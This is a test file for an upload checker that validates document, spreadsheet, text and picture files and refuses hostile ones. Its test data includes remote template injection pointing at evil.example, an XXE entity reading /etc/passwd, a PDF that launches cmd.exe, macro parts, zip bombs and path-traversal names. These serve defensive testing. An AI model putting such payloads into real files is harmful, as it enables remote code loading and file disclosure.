import { mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import sharp from "sharp";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { checkFile } from "#app/files/check-file.server.ts";
import { scanFile } from "#app/files/clamd.server.ts";
import { digestOf } from "#app/files/evidence-folder.server.ts";
import {
  EICAR,
  EXECUTABLE,
  officeFile,
  openDocument,
  pdfFile,
  photograph,
  relationships,
} from "#tests/support/evidence-files.ts";
import { type ClamdMood, startFakeClamd } from "#tests/support/fake-clamd.ts";
import { zipOf } from "#tests/support/zip.ts";

let folder: string;

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "portal-check-"));
});

afterEach(async () => {
  await rm(folder, { recursive: true });
});

/** The file on disk, checked as it would be after an upload. */
async function check(fileName: string, content: string | Uint8Array, clamd: string | null = null) {
  const path = join(folder, "upload.part");
  await writeFile(path, content);
  const checked = await checkFile(path, fileName, clamd);
  return { path, checked, fault: checked.ok ? null : checked.fault, file: checked.ok ? checked.file : null };
}

describe("a file of an allowed type is taken, under its own name and our content type", () => {
  const OFFICE = "application/vnd.openxmlformats-officedocument";
  const SOUND: [name: string, content: () => string | Uint8Array | Promise<Uint8Array>, type: string][] = [
    ["Policy v3.pdf", () => pdfFile(), "application/pdf"],
    ["Policy.docx", () => officeFile("docx"), `${OFFICE}.wordprocessingml.document`],
    ["Devices.xlsx", () => officeFile("xlsx"), `${OFFICE}.spreadsheetml.sheet`],
    ["Training.pptx", () => officeFile("pptx"), `${OFFICE}.presentationml.presentation`],
    ["Policy.odt", () => openDocument("text"), "application/vnd.oasis.opendocument.text"],
    ["Devices.ods", () => openDocument("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"],
    ["staff.csv", () => "name,trained\nA,yes\n", "text/csv"],
    ["windows.csv", () => Buffer.from("caf\xe9;\x80 20\r\n", "latin1"), "text/csv"],
    ["with mark.csv", () => "\ufeffname;trained\r\n", "text/csv"],
    ["notes.txt", () => "Checked in May.\n", "text/plain"],
    ["poster.png", () => photograph("png"), "image/png"],
    ["poster.JPEG", () => photograph("jpeg"), "image/jpeg"],
  ];

  test.each(SOUND)("%s", async (name, content, type) => {
    const { file, path } = await check(name, await content());
    expect(file).toEqual({
      fileName: name === "poster.JPEG" ? "poster.jpg" : name,
      contentType: type,
      scan: "not-scanned",
      ...(await digestOf(path)),
    });
  });

  test("a hyperlink in a Word file is fine", async () => {
    const rels = relationships(
      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org" TargetMode="External"',
    );
    const { fault } = await check(
      "a.docx",
      officeFile("docx", [{ name: "word/_rels/document.xml.rels", data: rels }]),
    );
    expect(fault).toBeNull();
  });

  test.each([
    "https://example.org/?a>b",
    "https://example.org/?a&gt;b",
    "https://example.org/?Type='x/attachedTemplate'",
  ])("a hyperlink to %s is fine", async (target) => {
    const rels = relationships(`TargetMode="External" Target="${target}" Type="x/hyperlink"`);
    const part = { name: "word/_rels/document.xml.rels", data: rels };
    expect((await check("a.docx", officeFile("docx", [part]))).fault).toBeNull();
  });

  test("a large spreadsheet with signs of comparison in its formulas is fine", async () => {
    const rows = Array.from(
      { length: 60_000 },
      (_, row) => `<table:table-cell table:formula="of:=IF([.A${row}]>${row};&quot;a&quot;;0)"/>`,
    );
    const part = { name: "content.xml", data: `<office:body>${rows.join("\n")}</office:body>` };
    expect((await check("a.ods", openDocument("spreadsheet", [part]))).fault).toBeNull();
  });

  test("a drawing in one long attribute is fine", async () => {
    const part = { name: "content.xml", data: `<x><draw:path svg:d="${"M1,2 ".repeat(300_000)}"/></x>` };
    expect((await check("a.odt", openDocument("text", [part]))).fault).toBeNull();
  });

  test("a tightly packed table is no bomb while it is small", async () => {
    const sheet = {
      name: "xl/worksheets/sheet1.xml",
      data: `<sheet>${"<c>0</c>".repeat(2_000_000)}</sheet>`,
    };
    expect((await check("zeros.xlsx", officeFile("xlsx", [sheet]))).fault).toBeNull();
  });
});

describe("a file that is not what its name says, or that does something, is refused with what to do", () => {
  const external = (attributes: string) => [
    { name: "word/_rels/settings.xml.rels", data: relationships(attributes) },
  ];
  const template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
  const DOCX = officeFile("docx");
  const HOSTILE: [
    about: string,
    name: string,
    content: () => string | Uint8Array | Promise<Uint8Array>,
    said: RegExp,
  ][] = [
    ["an ending that is not taken", "tool.exe", () => EXECUTABLE, /Choose a file that ends in \.pdf/],
    ["no ending", "policy", () => pdfFile(), /Choose a file that ends in/],
    [
      "a vector picture",
      "logo.svg",
      () => "<svg xmlns='x'><script>1</script></svg>",
      /Choose a file that ends in/,
    ],
    ["a web page", "page.html", () => "<html>", /Choose a file that ends in/],
    ["an archive", "all.zip", () => DOCX, /Choose a file that ends in/],
    ["an old Word file", "old.doc", () => DOCX, /Choose a file that ends in/],
    ["a Word file with macros by its name", "macro.docm", () => DOCX, /Choose a file that ends in/],
    ["nothing in it", "empty.pdf", () => "", /empty/],
    ["a program called a PDF", "policy.pdf", () => EXECUTABLE, /no PDF/],
    ["a program called a text", "policy.txt", () => EXECUTABLE, /no plain text file/],
    ["a program called a picture", "photo.jpg", () => EXECUTABLE, /no JPEG picture/],
    ["a program called a Word file", "policy.docx", () => EXECUTABLE, /no Word document/],
    ["a PDF called a Word file", "policy.docx", () => pdfFile(), /no Word document/],
    ["a Word file called an Excel file", "policy.xlsx", () => DOCX, /no Excel workbook/],
    [
      "any archive called a Word file",
      "policy.docx",
      () => zipOf([{ name: "a.txt", data: "a" }]),
      /no Word document/,
    ],
    [
      "an OpenDocument spreadsheet called a text",
      "a.odt",
      () => openDocument("spreadsheet"),
      /no OpenDocument text/,
    ],
    ["a PNG called a JPEG", "photo.jpg", () => photograph("png"), /no JPEG picture/],
    ["a vector picture called a text", "logo.txt", () => "  <svg onload='x()'/>", /no plain text file/],
    ["a web page called a CSV", "page.csv", () => "<!DOCTYPE html><p>", /no CSV file/],
    ["a text in UTF-16", "excel.csv", () => Buffer.from("\ufeffname\tx", "utf16le"), /UTF-16.*CSV UTF-8/],
    ["control signs in a text", "notes.txt", () => "a\x1b[2Jb", /no plain text file/],
    ["a PDF with a script", "form.pdf", () => pdfFile("<< /S /JavaScript /JS (app.alert(1)) >>\n"), /script/],
    [
      "a PDF with a script whose name is hidden",
      "form.pdf",
      () => pdfFile("<< /S /J#61vaScript >>\n"),
      /script/,
    ],
    [
      "a PDF that starts a program",
      "form.pdf",
      () => pdfFile("<< /S/Launch /F (cmd.exe) >>\n"),
      /starts a program/,
    ],
    ["a PDF that breaks off", "half.pdf", () => "%PDF-1.7\n1 0 obj", /breaks off/],
    [
      "a PDF behind other bytes",
      "late.pdf",
      () => Buffer.concat([Buffer.from("GIF89a"), pdfFile()]),
      /no PDF/,
    ],
    [
      "macros in a Word file",
      "a.docx",
      () => officeFile("docx", [{ name: "word/vbaProject.bin", data: "macro" }]),
      /macros/,
    ],
    [
      "a macro file under another name",
      "a.xlsx",
      () =>
        officeFile("xlsx", [
          {
            name: "[Content_Types].xml",
            data: '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
          },
        ]),
      /macros/,
    ],
    [
      "old Excel macros",
      "a.xlsx",
      () => officeFile("xlsx", [{ name: "xl/macrosheets/sheet1.xml", data: "<x/>" }]),
      /macros/,
    ],
    [
      "ActiveX",
      "a.docx",
      () => officeFile("docx", [{ name: "word/activeX/activeX1.xml", data: "<x/>" }]),
      /macros/,
    ],
    [
      "macros of an OpenDocument",
      "a.odt",
      () => openDocument("text", [{ name: "Basic/Standard/Module1.xml", data: "<x/>" }]),
      /macros/,
    ],
    [
      "a script bound to an event of an OpenDocument",
      "a.odt",
      () =>
        openDocument("text", [
          { name: "content.xml", data: "<script:event-listener script:event-name='dom:load'/>" },
        ]),
      /macros/,
    ],
    [
      "an embedded object",
      "a.docx",
      () => officeFile("docx", [{ name: "word/embeddings/oleObject1.bin", data: "x" }]),
      /another file/,
    ],
    [
      "an archive inside",
      "a.docx",
      () => officeFile("docx", [{ name: "word/media/image1.png", data: DOCX }]),
      /another file/,
    ],
    [
      "a program inside",
      "a.pptx",
      () => officeFile("pptx", [{ name: "ppt/media/image1.emf", data: EXECUTABLE }]),
      /another file/,
    ],
    [
      "the old office container inside",
      "a.odt",
      () => openDocument("text", [{ name: "Object 1", data: Buffer.from("d0cf11e0a1b11ae1", "hex") }]),
      /another file/,
    ],
    [
      "a template elsewhere",
      "a.docx",
      () =>
        officeFile(
          "docx",
          external(`Type="${template}" Target="http://evil.example/a.dotm" TargetMode="External"`),
        ),
      /from outside/,
    ],
    [
      "a template on a server",
      "a.docx",
      () =>
        officeFile(
          "docx",
          external(`TargetMode='External' Target="file:///\\\\server\\a.dotx" Type="${template}"`),
        ),
      /from outside/,
    ],
    [
      "a template in numbered letters",
      "a.docx",
      () => officeFile("docx", external(`Type="${template}" Target="x" TargetMode="&#69;xternal"`)),
      /from outside/,
    ],
    [
      "a template whose address ends a tag",
      "a.docx",
      () =>
        officeFile(
          "docx",
          external(`Type="${template}" Target="http://evil.example/x.dotm?>" TargetMode="External"`),
        ),
      /from outside/,
    ],
    [
      "a template whose address speaks of a hyperlink",
      "a.docx",
      () =>
        officeFile(
          "docx",
          external(
            `Target="http://evil.example/Type='x/hyperlink'" Type="${template}" TargetMode="External"`,
          ),
        ),
      /from outside/,
    ],
    [
      "a template under another prefix",
      "a.docx",
      () =>
        officeFile("docx", [
          {
            name: "word/_rels/settings.xml.rels",
            data: `<p:Relationships xmlns:p="x"><p:Relationship Type="${template}" Target="x" TargetMode="External"/></p:Relationships>`,
          },
        ]),
      /from outside/,
    ],
    [
      "a template in a part of UTF-16",
      "a.docx",
      () =>
        officeFile("docx", [
          {
            name: "word/_rels/settings.xml.rels",
            data: Buffer.from(
              `\ufeff<r><Relationship Type="${template}" Target="x" TargetMode="External"/></r>`,
              "utf16le",
            ),
          },
        ]),
      /from outside/,
    ],
    [
      "relations in an encoding that hides its tags",
      "a.docx",
      () =>
        officeFile("docx", [
          {
            name: "word/_rels/settings.xml.rels",
            data: '<?xml version="1.0" encoding="UTF-7"?><r>+ADw-Relationship TargetMode=+ACI-External+ACI-/+AD4-</r>',
          },
        ]),
      /damaged/,
    ],
    [
      "a template in a part with two names",
      "a.docx",
      () =>
        officeFile(
          "docx",
          external(`Type="${template}" Target="x" TargetMode="External"`).map((part) => ({
            ...part,
            unicodePath: "word/media/a.png",
          })),
        ),
      /damaged/,
    ],
    [
      "macros under a type in numbered letters",
      "a.docx",
      () =>
        officeFile("docx", [
          {
            name: "[Content_Types].xml",
            data: '<Types><Override ContentType="application/vnd.ms-word.document.macr&#111;Enabled.main+xml"/></Types>',
          },
        ]),
      /macros/,
    ],
    ...[
      "<draw:image xlink:href='http://evil.example/a.png'/>",
      '<draw:image xlink:href="&#104;ttp://evil.example/a.png"/>',
      '<draw:frame draw:name="a>b" xlink:href="http://evil.example/a.png"/>',
      '<d:image y:href=" //evil.example/a.png"/>',
      '<text:section-source xlink:href="\\\\evil.example\\a.odt"/>',
      "<text:dde-connection-decl/>",
    ].map((tag): (typeof HOSTILE)[number] => [
      `an OpenDocument with ${tag}`,
      "a.odt",
      () => openDocument("text", [{ name: "content.xml", data: `<x>${tag}</x>` }]),
      /from outside/,
    ]),
    [
      "an OpenDocument with an attribute that is not well formed",
      "a.odt",
      () =>
        openDocument("text", [
          { name: "content.xml", data: '<draw:image xlink:href = "http://evil.example/a.png"/>' },
        ]),
      /damaged/,
    ],
    [
      "a picture elsewhere in an object of an OpenDocument",
      "a.odt",
      () =>
        openDocument("text", [
          { name: "Object 1/content.xml", data: '<draw:image xlink:href="http://evil.example/a.png"/>' },
        ]),
      /from outside/,
    ],
    [
      "a script behind a link of an OpenDocument",
      "a.odt",
      () =>
        openDocument("text", [
          { name: "content.xml", data: '<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>' },
        ]),
      /macros/,
    ],
    [
      "a tag that never ends",
      "a.odt",
      () => openDocument("text", [{ name: "content.xml", data: "<a ".repeat(2_000_000) }]),
      /damaged/,
    ],
    [
      "tags far too deep within each other",
      "a.odt",
      () => openDocument("text", [{ name: "content.xml", data: "<a>".repeat(1001) + "</a>".repeat(1001) }]),
      /damaged/,
    ],
    [
      "a picture elsewhere in an OpenDocument",
      "a.odt",
      () =>
        openDocument("text", [
          { name: "content.xml", data: '<draw:image xlink:href="http://evil.example/a.png"/>' },
        ]),
      /from outside/,
    ],
    [
      "an outside entity",
      "a.docx",
      () =>
        officeFile("docx", [
          {
            name: "word/document.xml",
            data: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
          },
        ]),
      /from outside/,
    ],
    [
      "an outside entity in UTF-16",
      "a.docx",
      () =>
        officeFile("docx", [
          { name: "word/document.xml", data: Buffer.from('<!DOCTYPE x SYSTEM "x">', "utf16le") },
        ]),
      /from outside/,
    ],
    [
      "a password",
      "a.docx",
      () => Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(512)]),
      /password/,
    ],
    [
      "a part with a password",
      "a.docx",
      () => officeFile("docx", [{ name: "word/settings.xml", data: "<x/>", isEncrypted: true }]),
      /password/,
    ],
    [
      "an encrypted OpenDocument",
      "a.odt",
      () => openDocument("text", [{ name: "META-INF/manifest.xml", data: "<manifest:encryption-data/>" }]),
      /password/,
    ],
    [
      "parts that lead out of the file",
      "a.docx",
      () => officeFile("docx", [{ name: "../../../etc/cron.d/x", data: "x" }]),
      /damaged/,
    ],
    ["a list of parts that is cut off", "a.docx", () => DOCX.subarray(0, DOCX.length - 30), /damaged/],
    [
      "a part larger than it says",
      "a.xlsx",
      () => officeFile("xlsx", [{ name: "xl/sharedStrings.xml", data: "<s/>".repeat(50_000), claims: 10 }]),
      /damaged/,
    ],
    [
      "a picture that is damaged",
      "photo.png",
      async () => (await photograph("png")).subarray(0, 60),
      /cannot be read/,
    ],
  ];

  test.each(HOSTILE)("%s", async (_about, name, content, said) => {
    const { fault } = await check(name, await content());
    expect(fault).toMatch(said);
    // One plain sentence, or two: what is wrong and what to do.
    expect(fault).toMatch(/Save|save|Choose|Print|Take|again|instead/);
  });

  test("a bomb of honest sizes", async () => {
    const zeros = { name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(60 * 1024 * 1024, 48) };
    expect((await check("bomb.xlsx", officeFile("xlsx", [zeros]))).fault).toMatch(
      /far more than its size says/,
    );
  });

  test("a bomb of very many parts", async () => {
    const parts = Array.from({ length: 5001 }, (_, index) => ({ name: `word/p${index}.xml`, data: "" }));
    expect((await check("bomb.docx", officeFile("docx", parts))).fault).toMatch(
      /far more than its size says/,
    );
  });

  test("a bomb whose parts claim to be larger than all that may be", async () => {
    const part = { name: "word/media/a.bin", data: "x", claims: 300 * 1024 * 1024 };
    expect((await check("bomb.docx", officeFile("docx", [part]))).fault).toMatch(
      /far more than its size says/,
    );
  });

  test("a picture of more dots than may be drawn", async () => {
    const huge = await sharp({ create: { width: 8000, height: 6500, channels: 3, background: "white" } })
      .png({ compressionLevel: 1 })
      .toBuffer();
    expect((await check("huge.png", huge)).fault).toMatch(/50 million dots/);
    expect(await readdir(folder)).toEqual(["upload.part"]);
  });
});

describe("a picture is drawn anew", () => {
  test.each(["jpeg", "png"] as const)("what a camera wrote into a %s is gone", async (format) => {
    const taken = await photograph(format);
    expect((await sharp(taken).metadata()).exif?.toString("latin1")).toContain("Somebody by name");
    const { path, file } = await check(format === "jpeg" ? "a.jpg" : "a.png", taken);
    const kept = await readFile(path);
    expect((await sharp(kept).metadata()).exif).toBeUndefined();
    expect(kept.includes("Somebody")).toBe(false);
    expect(file?.sizeBytes).toBe((await stat(path)).size);
  });

  test("what hides behind a picture is gone", async () => {
    const polyglot = Buffer.concat([
      await photograph("png"),
      officeFile("docx"),
      Buffer.from("<script>alert(1)</script>"),
    ]);
    const { path, fault } = await check("a.png", polyglot);
    expect(fault).toBeNull();
    const kept = await readFile(path);
    expect(kept.includes("PK\x03\x04")).toBe(false);
    expect(kept.includes("<script>")).toBe(false);
  });

  test("a photograph lying on its side is set upright", async () => {
    const lying = await sharp({ create: { width: 40, height: 20, channels: 3, background: "red" } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const { path } = await check("a.jpg", lying);
    expect(await sharp(path).metadata()).toMatchObject({ width: 20, height: 40 });
  });
});

describe("the name under which a file is kept", () => {
  test.each([
    ["../../etc/passwd.txt", "passwd.txt"],
    ["C:\\Users\\me\\Policy.txt", "Policy.txt"],
    ["a\u202etxt.exe.txt", "atxt.exe.txt"],
    ['we"ird<>|name?.txt', "we-ird---name-.txt"],
    ["line\r\nbreak.txt", "linebreak.txt"],
    ["CON.txt", "CON_.txt"],
    ["   .txt", "evidence.txt"],
    ["Polisi diogelu – Ŵy.TXT", "Polisi diogelu – Ŵy.txt"],
    [`${"x".repeat(300)}.txt`, `${"x".repeat(116)}.txt`],
  ])("%j becomes %j", async (given, kept) => {
    expect((await check(given, "words")).file?.fileName).toBe(kept);
  });
});

describe("with a scanner", () => {
  test("a clean file says so, and the scanner was given what was sent", async () => {
    const clamd = await startFakeClamd(EICAR);
    const content = Buffer.alloc(300_000, "words ");
    const { file } = await check("a.txt", content, clamd.address);
    expect(file?.scan).toBe("clean");
    expect(clamd.received[0]?.equals(content)).toBe(true);
  });

  test("a picture is scanned as it came, before it is drawn anew", async () => {
    const clamd = await startFakeClamd(EICAR);
    const { fault } = await check(
      "a.png",
      Buffer.concat([await photograph("png"), Buffer.from(EICAR)]),
      clamd.address,
    );
    expect(fault).toMatch(/harmful/);
  });

  test("what it finds is refused", async () => {
    const clamd = await startFakeClamd(EICAR);
    expect((await check("a.txt", EICAR, clamd.address)).fault).toMatch(/harmful/);
  });

  test.each<ClamdMood>(["close", "error", "size-limit", "nonsense"])(
    "a scanner that answers with %s lets nothing through",
    async (mood) => {
      const clamd = await startFakeClamd(EICAR, mood);
      expect((await check("a.txt", "words", clamd.address)).fault).toMatch(/could not check/);
    },
  );

  test("a scanner that is not there lets nothing through", async () => {
    expect((await check("a.txt", "words", "127.0.0.1:1")).fault).toMatch(/could not check/);
    expect((await check("a.txt", "words", "/no/such/socket")).fault).toMatch(/could not check/);
  });

  test("a scanner that says nothing is not waited for for ever", async () => {
    const clamd = await startFakeClamd(EICAR, "hang");
    const path = join(folder, "upload.part");
    await writeFile(path, "words");
    expect(await scanFile(clamd.address, path, 50)).toBe("unavailable");
  });
});
